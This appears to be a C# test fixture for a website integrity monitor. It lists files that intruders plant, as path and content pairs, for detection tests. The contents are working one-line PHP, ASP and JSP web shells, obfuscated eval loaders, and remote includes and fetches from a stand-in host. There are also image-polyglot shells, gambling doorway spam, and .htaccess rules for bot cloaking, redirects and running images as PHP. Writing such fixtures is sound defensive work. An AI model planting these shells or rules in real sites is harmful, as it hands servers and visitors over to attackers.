namespace SopWebsite.Tests.Monitoring.Baseline;

/// <summary>What intruders leave behind, one of each kind that is known. Nothing here is ever run.</summary>
internal static class PlantedFiles
{
    private const string Blob = "aWYoaXNzZXQoJF9QT1NUWydjJ10pKXtldmFsKCRfUE9TVFsnYyddKTt9";

    /// <summary>Places are below a document root; <c>{u}</c> stands for the folder of uploads.</summary>
    public static readonly (string Path, string Text)[] All =
    [
        // Run what a visitor sends.
        ("a/one-line.php", "<?php @eval($_POST['c']);"),
        ("a/assert.php", "<?php @assert($_REQUEST[\"x\"]);"),
        ("a/function-of-request.php", "<?php $_GET['f']($_GET['x']);"),
        ("a/variable-function.php", "<?php $f = 'sys'.'tem'; $f($_GET['cmd']);"),
        ("a/variable-then-eval.php", "<?php $c = $_COOKIE['k']; if ($c) { eval($c); }"),
        ("a/system.php", "<?php system($_GET['cmd'].' 2>&1'); ?>"),
        ("a/passthru.php", "<pre><?= passthru($_REQUEST['q']) ?></pre>"),
        ("a/shell-exec.php", "<?php echo shell_exec(base64_decode($_POST['p']));"),
        ("a/backtick.php", "<?php echo `$_GET[0]`;"),
        ("a/header.php", "<?php eval(base64_decode($_SERVER['HTTP_X_RUN']));"),
        ("a/command-variable.php", "<?php $k = $_GET['k'];\n$o = shell_exec($k);\necho $o;"),
        ("a/call-user-func.php", "<?php call_user_func($_GET['a'], $_GET['b']);"),
        ("a/array-map.php", "<?php array_map('ass'.'ert', array($_POST['x']));"),
        ("a/usort.php", "<?php usort($_GET, 'system');"),
        ("a/create-function.php", "<?php $g = create_function('', $_POST['z']); $g();"),
        ("a/reflection.php", "<?php $r = new ReflectionFunction('system'); echo $r->invoke($_GET['x']);"),
        ("a/preg-e.php", "<?php preg_replace('/.*/e', $_POST['r'], '');"),
        ("a/include.php", "<?php include($_GET['page']);"),
        ("a/include-remote.php", "<?php include 'https://bad.example/x.txt';"),
        ("a/include-icon.php", "<?php @include \"/var/www/images/favicon_3a1f.ico\";"),
        ("a/writes.php", "<?php file_put_contents($_POST['n'], $_POST['d']);"),
        ("a/takes-files.php", "<?php @copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
        ("a/mailer.php", "<?php mail(stripslashes(base64_decode($_POST['to'])), 's', 'b');"),
        // Hide what they run.
        ("a/base64.php", "<?php eval(base64_decode('" + Blob + "'));"),
        ("a/gzinflate.php", "<?php eval(gzinflate(str_rot13(base64_decode('" + Blob + "'))));"),
        ("a/comments.php", "<?php eval/**/(/*x*/base64_decode/**/('" + Blob + "'));"),
        ("a/hex.php", "<?php ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['q'] = "
            + "\"\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65\"; eval($q('" + Blob + "'));"),
        ("a/octal.php", "<?php $a = \"\\163\\171\\163\\164\\145\\155\\163\\171\\163\\164\\145\\155\"; eval($a($b));"),
        ("a/chr.php", "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).chr(32); $f($x);"),
        ("a/zero-and-o.php", "<?php $O00OO0 = urldecode('%6f'); $O0O000 = $O00OO0;"),
        ("a/underscores.php", "<?php $____ = 'x'; $_____ = $____; eval($____($_____));"),
        ("a/jumps.php", "<?php goto aaaa; bbbb: echo 1; goto cccc; aaaa: $x=1; goto bbbb; cccc: $y=2; goto dddd; dddd: $z=3; goto eeee; "
            + "eeee: $w=1; goto ffff; ffff: ;"),
        ("a/xor.php", "<?php $_ = ('!((%)(' ^ '~}}@~x'); $_('x'); $a = 'abcdefgh' ^ 'ijklmnop';"),
        ("a/long-block.php", "<?php $d = '" + new string('Q', 1500) + "'; eval($d);"),
        ("a/loader.php", "<?php $c = file_get_contents('http://bad.example/l.txt'); eval('?>'.$c);"),
        ("a/preload.php", "<?php putenv('LD_PRELOAD=/tmp/x.so'); mail('a','b','c','d');"),
        ("a/signature.php", "<?php $title = 'b374k 3.2';"),
        ("a/password.php", "<?php if (md5($_POST['p']) == 'e10adc39') { eval($_SESSION); $r = base64_decode($_POST['q']); }"),
        ("a/cloak.php", "<?php if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo "
            + "file_get_contents('http://bad.example/'); exit; }"),
        ("a/doorway.html", string.Concat(Enumerable.Repeat("<a href=x>slot gacor hari ini</a> situs judi terpercaya. ", 6))),
        ("a/b374k.php", "<?php // empty but for its name\n$x = 1;"),
        // Where no script belongs, or as what it is not.
        ("{u}/harmless.php", "<?php echo 'x';"),
        ("{u}/gambar.phtml", "<?php echo 1;"),
        ("{u}/gambar.phar", "<?php echo 1;"),
        ("{u}/lama.php5", "<?php echo 1;"),
        ("{u}/foto.php.jpg", "GIF89a"),
        ("{u}/foto.jpg.php", "<?php echo 1;"),
        ("{u}/titik.php.", "<?php echo 1;"),
        ("{u}/berkas.asp", "<% Response.Write(1) %>"),
        ("{u}/berkas.jsp", "<% out.print(1); %>"),
        ("{u}/foto.jpg", "\xFF\xD8\xFF\xE0JFIF\0\x01<?php system($_GET['c']); ?>\xFF\xD9"),
        ("{u}/lambang.gif", "GIF89a<?php echo 1; ?>"),
        ("favicon_3a1f.ico", "<?php $x = 1; ?>"),
        ("tmp/sementara.php", "<?php echo 1;"),
        ("cache/simpan.php", "<?php echo 1;"),
        ("a/asp.asp", "<%eval request(\"c\")%>"),
        ("a/aspx.aspx", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"c\"],\"unsafe\");%>"),
        ("a/jsp.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
        ("a/notes.txt", "<?php @eval($_POST['c']);"),
        // Tell the server to serve others wrongly.
        ("b/.htaccess", "RewriteCond %{HTTP_USER_AGENT} (googlebot|bingbot) [NC]\nRewriteRule ^(.*)$ /a/cloak.php?p=$1 [L]\n"),
        ("c/.htaccess", "RewriteCond %{HTTP_REFERER} .*google.* [NC]\nRewriteRule .* https://bad.example/ [R=302,L]\n"),
        ("d/.htaccess", "RewriteCond %{HTTP_USER_AGENT} android|iphone [NC]\nRewriteRule .* http://bad.example/m [R,L]\n"),
        ("e/.htaccess", "php_value auto_prepend_file /tmp/.x\n"),
        ("f/.user.ini", "; settings\nauto_append_file = \"logo.png\"\n"),
        ("g/.htaccess", "AddType application/x-httpd-php .jpg .png\n"),
        ("h/.htaccess", "<FilesMatch \"\\.(gif|jpe?g)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"),
        ("i/.htaccess", "php_flag engine on\n"),
    ];
}
